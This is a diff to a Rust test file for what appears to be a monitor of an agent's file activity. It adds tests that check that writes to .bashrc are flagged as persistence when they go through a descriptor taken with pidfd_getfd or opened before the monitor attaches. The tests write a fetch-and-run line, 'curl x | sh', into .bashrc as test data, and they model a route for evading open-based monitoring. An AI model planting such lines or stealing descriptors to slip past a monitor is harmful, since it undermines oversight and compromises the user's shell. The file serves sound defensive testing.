@@ -5,7 +5,8 @@
 //! The first three fail on main 57660c8 (see notes/f15d.md); the last two guard against
 //! duplicates from the new hook and cannot fail there. The store into a tmpfs mapping failed on
 //! f210e45 (its fault dirties no page, only the mtime); the atime test guards the rule that
-//! tells the two apart (it fails when every time update counts as a write).
+//! tells the two apart (it fails when every time update counts as a write). The pidfd_getfd and
+//! before-`attach` tests pass on f210e45: they document those cases of the issue.
 use std::fs::OpenOptions;
 use std::path::Path;
 
@@ -64,6 +65,149 @@ fn a_write_through_an_inherited_descriptor_is_a_write() {
     let w = one_write(&r, &target);
     // The filesystem is known from the inode, as for an open.
     assert_ne!(w["magic"], "0x0", "{w:#}");
+}
+
+/// A process outside the capture that holds `file` open for append as its fd 3 (opened
+/// before it says `ready`), then waits for a line on its stdin and writes `line` to fd 3. Killed
+/// if the test ends before it did.
+struct Holder {
+    child: std::process::Child,
+}
+
+impl Holder {
+    fn start(file: &Path, line: &str) -> Holder {
+        use std::io::BufRead as _;
+        let script = format!(
+            "exec 3>>'{}'; echo ready; read go; echo '{line}' >&3",
+            text(file)
+        );
+        let mut child = std::process::Command::new("sh")
+            .args(["-c", &script])
+            .stdin(std::process::Stdio::piped())
+            .stdout(std::process::Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        assert_eq!(
+            line,
+            "ready\n",
+            "the holder did not open {}",
+            file.display()
+        );
+        Holder { child }
+    }
+
+    fn pid(&self) -> u32 {
+        self.child.id()
+    }
+
+    /// Lets it write, and waits for its end.
+    fn go(&mut self) {
+        use std::io::Write as _;
+        let mut stdin = self.child.stdin.take().unwrap();
+        stdin.write_all(b"go\n").unwrap();
+        drop(stdin);
+        assert!(self.child.wait().unwrap().success());
+    }
+}
+
+impl Drop for Holder {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// The agent takes a descriptor open for append to `.bashrc` from a process outside the
+/// capture with `pidfd_getfd`, and writes through it: no open of `.bashrc` in the capture.
+#[test]
+fn a_write_through_a_descriptor_taken_with_pidfd_getfd_is_persistence() {
+    let (_d, home, _) = home();
+    let bashrc = home.join(".bashrc");
+    let holder = Holder::start(&bashrc, "never written");
+    let pid = holder.pid().to_string();
+    let argv = [
+        env!("CARGO_BIN_EXE_attack_pidfd_write"),
+        &pid,
+        "3",
+        "curl x | sh # pidfd_getfd",
+    ];
+    let r = run_home(&home, &[], &argv);
+    drop(holder);
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    assert!(
+        std::fs::read_to_string(&bashrc)
+            .unwrap()
+            .ends_with("curl x | sh # pidfd_getfd\n")
+    );
+    let w = one_write(&r, &bashrc);
+    assert_eq!(w["pid"], r.exec_of(&argv)["pid"], "{w:#}");
+    assert_eq!(w["persistence"], true, "{w:#}");
+    assert!(
+        !r.violations_of(ViolationKind::Persistence).is_empty(),
+        "{:#}",
+        r.report["violations"]
+    );
+}
+
+/// `attach` to a process that opened `.bashrc` for append before the attach and writes to it
+/// after: the write is a `write` entry of the attached process, persistence.
+#[test]
+fn a_write_through_a_descriptor_opened_before_attach_is_persistence() {
+    require_root();
+    let (d, home, _) = home();
+    let bashrc = home.join(".bashrc");
+    let mut holder = Holder::start(&bashrc, "curl x | sh # before attach");
+    let (report, log) = (d.path().join("r.json"), d.path().join("log.jsonl"));
+    let mut monitor = command()
+        .env("HOME", &home)
+        .args([
+            "attach",
+            "--headless",
+            "--fail-on",
+            "persistence",
+            "--report",
+        ])
+        .arg(&report)
+        .arg("--log")
+        .arg(&log)
+        .arg(holder.pid().to_string())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    wait_attached(&log, &mut monitor);
+    holder.go();
+    let out = monitor.wait_with_output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(3),
+        "--fail-on persistence: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let r: Value = serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+    assert_replay_matches(&r, &log);
+    let found: Vec<&Value> = r["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"] == text(&bashrc) && f["op"] == "write")
+        .collect();
+    assert_eq!(found.len(), 1, "{:#}", r["files"]);
+    assert_eq!(found[0]["pid"], holder.pid(), "{:#}", found[0]);
+    assert_eq!(found[0]["persistence"], true, "{:#}", found[0]);
+    assert!(
+        r["violations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|v| v["kind"] == "persistence"
+                && v["summary"].as_str().unwrap().contains(text(&bashrc))),
+        "{:#}",
+        r["violations"]
+    );
 }
 
 /// A shared mapping of an inherited descriptor of a file in `dir`, stored to: no write(2) at
